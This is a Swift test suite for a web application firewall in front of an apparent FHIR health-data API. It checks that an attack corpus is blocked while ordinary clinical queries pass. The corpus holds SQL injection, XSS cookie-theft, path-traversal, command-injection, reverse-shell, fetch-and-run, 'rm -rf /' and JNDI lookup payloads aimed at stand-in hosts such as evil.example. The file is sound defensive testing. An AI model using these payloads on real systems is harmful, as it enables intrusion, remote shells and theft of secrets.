import Foundation
import Gateway
import Testing

/// Attack payloads generated from known attack classes, each sent raw, URL-encoded and
/// double-encoded, with case changes: the WAF must block at least 95%.
enum AttackCorpus {
    static let sqli = [
        "' OR '1'='1", "' or 1=1--", "admin'--", "1' OR '1'='1' /*", "' UNION SELECT username, password FROM users--",
        "1 UNION ALL SELECT NULL,NULL,NULL--", "'; DROP TABLE patients;--", "1; SELECT pg_sleep(5)--", "' AND SLEEP(5)#",
        "1' AND extractvalue(1,concat(0x7e,version()))--", "' OR 'a'='a", "\" OR \"1\"=\"1", "1' WAITFOR DELAY '0:0:5'--",
        "' UNION SELECT table_name FROM information_schema.tables--", "1;EXEC xp_cmdshell('dir')--", "') OR ('1'='1",
        "' AND 1=2 UNION SELECT 1,@@version--", "x' AND BENCHMARK(5000000,MD5(1))#", "1 AND updatexml(1,concat(0x3a,user()),1)",
        "'||'a", "' or true--", "'; INSERT INTO users VALUES('x','y');--",
    ]
    static let xss = [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(document.cookie)>", "javascript:alert(1)",
        "<iframe src=\"javascript:alert(1)\">", "<body onload=alert(1)>", "\"><script>document.location='http://x/'+document.cookie</script>",
        "<a href=\"javascript:void(0)\" onclick=\"alert(1)\">x</a>", "<details open ontoggle=alert(1)>", "<math><mtext><script>prompt(1)</script>",
        "<input autofocus onfocus=alert(1)>", "'-alert(1)-'", "<ScRiPt>eval(String.fromCharCode(97,108,101,114,116))</ScRiPt>",
        "<object data=\"javascript:alert(1)\">", "<embed src=javascript:alert(1)>", "<marquee onstart=alert(1)>",
        "<video><source onerror=alert(1)>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "vbscript:msgbox(1)",
        "<style>@import 'javascript:alert(1)';</style>",
    ]
    static let traversal = [
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd", "/etc/shadow", "file:///etc/passwd",
        "php://filter/convert.base64-encode/resource=index.php", "..;/..;/admin", "/proc/self/environ", "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "../../../../../../boot.ini", "/.env", "/.git/config", "zip://shell.jpg#payload.php", "../../wp-config.php",
    ]
    static let cmdi = [
        "; cat /etc/passwd", "| whoami", "&& id", "`id`", "$(whoami)", "; ls -la", "| nc 10.0.0.1 4444 -e /bin/sh",
        "; wget http://evil.example/x.sh", "; curl http://evil.example | sh", "${IFS}cat${IFS}/etc/passwd", "; ping -c 5 127.0.0.1",
        "| bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "; rm -rf /", "&& powershell -c whoami", "; sleep 10", "|| cmd.exe /c dir",
    ]
    static let jndi = [
        "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:ldap://x/a}", "${jndi:rmi://evil.example:1099/obj}", "${${::-j}${::-n}di:dns://x}",
        "${env:AWS_SECRET_ACCESS_KEY}", "${jndi:dns://x.interact.sh}",
    ]

    static func encode(_ s: String) -> String {
        s.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? s
    }

    /// Every payload raw (as a client would send it unencoded where it can), URL-encoded,
    /// double-encoded, and with its case changed.
    static var all: [String] {
        let base = sqli + xss + traversal + cmdi + jndi
        var out: [String] = []
        for p in base {
            out.append(encode(p))
            out.append(encode(encode(p)))
            out.append(encode(p.uppercased()))
        }
        return out
    }
}

@Suite struct WAFTests {
    let waf = WAF(configuration: .init())

    func query(_ q: String) -> WAF.Verdict { waf.inspect(.init(client: "203.0.113.9", path: "/fhir/Patient", query: q)) }

    @Test func blocksAtLeast95PercentOfTheAttackCorpus() {
        let corpus = AttackCorpus.all
        #expect(corpus.count >= 200)
        var missed: [String] = []
        for payload in corpus where query("name=\(payload)").action != .block { missed.append(payload) }
        let rate = Double(corpus.count - missed.count) / Double(corpus.count)
        print("WAF attack corpus: \(corpus.count - missed.count) of \(corpus.count) blocked (\(String(format: "%.1f", rate * 100))%); missed: \(missed.prefix(10))")
        #expect(rate >= 0.95)
    }

    @Test(arguments: [
        "family=O'Brien&given=D'Arcy", "name=Select%20Medical&address-city=Drop%20Bay", "code=http://loinc.org|8867-4&_sort=-date&_count=50",
        "subject:Patient.name=smith&date=ge2024-01-01T00:00:00%2B01:00", "_include=Observation:subject&_revinclude=Provenance:target",
        "identifier=urn:oid:1.2.36.146.595.217.0.1|12345&_total=accurate", "value-quantity=gt5.4|http://unitsofmeasure.org|mmol/L",
        "_lastUpdated=ge2025-01-01&_elements=id,name", "text:contains=union%20station", "note=patient%20said%20%22drop%20it%22",
        "address=1%20Main%20St.%2C%20Apt%20%233", "_id=a1b2c3,d4e5f6", "code:not=http://snomed.info/sct|44054006",
    ])
    func letsClinicalQueriesThrough(_ q: String) {
        #expect(query(q).action == .allow, "\(q)")
    }

    @Test func letsClinicalTextInBodiesThrough() {
        let body =
            #"{"resourceType":"Observation","note":[{"text":"Patient's mood: 'select' words carefully; asked to drop the subject. O'Neil -- follow-up; psych eval(uation) pending; sleep(7 h). Union Select Hospital, 1=1 ratio."}],"valueString":"<div xmlns=\"http://www.w3.org/1999/xhtml\">BP 120/80 &amp; HR 72</div>"}"#
        let verdict = waf.inspect(.init(client: nil, path: "/fhir/Observation", query: "", body: Array(body.utf8)))
        #expect(verdict.action == .allow, "\(verdict.rule ?? "")")
    }

    @Test func bodyRulesSeeJSONEscapesAndChunkBoundaries() {
        func body(_ text: String) -> WAF.Verdict { waf.inspect(.init(client: nil, path: "/fhir/Patient", query: "", body: Array(text.utf8))) }
        #expect(body(#"{"name":[{"family":"\u003cscript\u003ealert(1)\u003c/script\u003e"}]}"#).rule == "xss-script")
        #expect(body(#"{"name":[{"family":"\u0024{jndi:ldap://evil.example/a}"}]}"#).rule == "jndi")
        #expect(body(#"{"note":"\u003CSVG onload=x\u003E"}"#).action == .block)
        // ordinary escapes in clinical text stay allowed
        #expect(body(#"{"note":[{"text":"line one\nline two \"quoted\" 5\u00b0C"}]}"#).action == .allow)
        // a pattern split across two chunks is still found, a chunk at a time
        var scanner = BodyScanner(waf: waf)
        #expect(scanner.feed(Array(#"{"text":"<scr"#.utf8)) == nil)
        #expect(scanner.feed(Array(#"ipt>"}"#.utf8))?.rule == "xss-script")
        var escaped = BodyScanner(waf: waf)
        #expect(escaped.feed(Array(#"{"text":"\u00"#.utf8)) == nil)
        #expect(escaped.feed(Array(#"3cscript>"}"#.utf8))?.rule == "xss-script")
    }

    @Test(arguments: [
        "name='/**/OR/**/1=1--", "name='\tOR\t1=1", "name=x'||(select 1)||'", "name=1 AND randomblob(100000000)",
        "name='%09or%091=1--", "name=1'/*x*/union/*y*/select/**/1",
    ])
    func sqlCommentsWhitespaceAndConcatenationAreSeenThrough(_ q: String) {
        #expect(query(q).action == .block, "\(q)")
    }

    /// Found by the second outside attack pass: full-width and no-break-space spellings, triple
    /// encoding, stacked statements without a space, subqueries in casts.
    @Test(arguments: [
        "name=%EF%BC%87%20%EF%BD%8F%EF%BD%92%20%EF%BC%91%EF%BC%9D%EF%BC%91--",  // ＇ ｏｒ １＝１--
        "name=%EF%BC%9Cscript%EF%BC%9Ealert(1)",  // ＜script＞
        "name=1%C2%A0union%C2%A0select%C2%A0password",  // no-break spaces
        "name=%2525252e%2525252e%2525252fetc%2525252fpasswd", "name=%252527%252520or%2525201%25253D1--",
        "name=x;DROP%20TABLE%20hh_resource", "name=1%20AND%201=CAST((SELECT%20version())%20AS%20int)", "name=1;select%20pg_sleep(5)",
    ])
    func foldedAndRepeatedlyEncodedSpellingsAreSeenThrough(_ q: String) {
        #expect(query(q).action == .block, "\(q)")
    }

    @Test(arguments: ["family=M%C3%BCller", "given=%EF%BC%AA%EF%BD%8F%EF%BD%88%EF%BD%8E", "name=Caf%C3%A9%C2%A0Select", "note=100%25%20done"])
    func foldedClinicalTextStaysAllowed(_ q: String) {
        #expect(query(q).action == .allow, "\(q)")
    }

    @Test func theUserAgentIsInspectedForInjection() {
        for agent in ["' or 1=1--", "<script>alert(1)</script>", "${jndi:ldap://x/a}", "x' union select password from users"] {
            #expect(waf.inspect(.init(client: nil, path: "/fhir/Patient", query: "", userAgent: agent)).action == .block, "\(agent)")
        }
        for agent in [
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36", "python-requests/2.32.3", "curl/8.5.0",
            "HAPI-FHIR/7.4.0 (FHIR Client; FHIR 4.0.1/R4; apache)",
        ] {
            #expect(waf.inspect(.init(client: nil, path: "/fhir/Patient", query: "", userAgent: agent)).action == .allow, "\(agent)")
        }
    }

    @Test func protocolViolations() {
        #expect(query("name=%zz").rule == "protocol-invalid-encoding")
        #expect(query("name=%00").rule == "protocol-null-byte")
        #expect(query((0..<101).map { "a\($0)=1" }.joined(separator: "&")).rule == "protocol-too-many-parameters")
        #expect(waf.inspect(.init(client: nil, path: "/", query: "", headerBytes: 17_000)).rule == "protocol-header-size")
        #expect(waf.inspect(.init(client: nil, path: "/fhir/Patient", query: "", userAgent: "sqlmap/1.7.2#stable")).rule == "scanner")
        #expect(waf.inspect(.init(client: nil, path: "/fhir/Patient", query: "", headerValues: ["${jndi:ldap://x/a}"])).rule == "jndi")
    }

    @Test func addressListsAndRuleOverrides() {
        var config = WAF.Configuration()
        config.deny = [IPRange("198.51.100.0/24")!, IPRange("2001:db8::/32")!]
        config.allow = [IPRange("10.1.2.3")!]
        config.overrides = ["xss-script": .count]
        let waf = WAF(configuration: config)
        #expect(waf.inspect(.init(client: "198.51.100.77", path: "/", query: "")).rule == "ip-deny")
        #expect(waf.inspect(.init(client: "2001:db8:1::5", path: "/", query: "")).action == .block)
        #expect(waf.inspect(.init(client: "2001:db9::5", path: "/", query: "")).action == .allow)
        #expect(waf.inspect(.init(client: "10.1.2.3", path: "/", query: "name=<script>")).action == .allow)
        let counted = waf.inspect(.init(client: "192.0.2.1", path: "/", query: "q=javascript:x"))
        #expect(counted == .init(action: .count, rule: "xss-script"))
        #expect(waf.matches["xss-script"] == 1 && waf.matches["ip-deny"] == 2)
    }

    @Test func ipRangesAndForwardedClients() {
        #expect(IPRange("10.0.0.0/8")!.contains("10.200.3.4") && !IPRange("10.0.0.0/8")!.contains("11.0.0.1"))
        #expect(IPRange("fe80::/10")!.contains("fe80::1") && !IPRange("fe80::/10")!.contains("fec0::1"))
        #expect(IPRange("192.0.2.0/24")!.contains("::ffff:192.0.2.9"))
        #expect(IPRange("300.1.1.1") == nil && IPRange("10.0.0.0/33") == nil && IPRange("1::2::3") == nil)
        let proxies = [IPRange("10.0.0.0/8")!]
        // a trusted proxy's header is believed, right-most untrusted hop first
        #expect(WAFMiddleware.client(peer: "10.0.0.5", forwardedFor: ["198.51.100.1, 203.0.113.7, 10.0.0.9"], trusted: proxies) == "203.0.113.7")
        // anyone else's is not
        #expect(WAFMiddleware.client(peer: "203.0.113.50", forwardedFor: ["1.2.3.4"], trusted: proxies) == "203.0.113.50")
        #expect(WAFMiddleware.client(peer: "10.0.0.5", forwardedFor: [], trusted: proxies) == "10.0.0.5")
    }
}
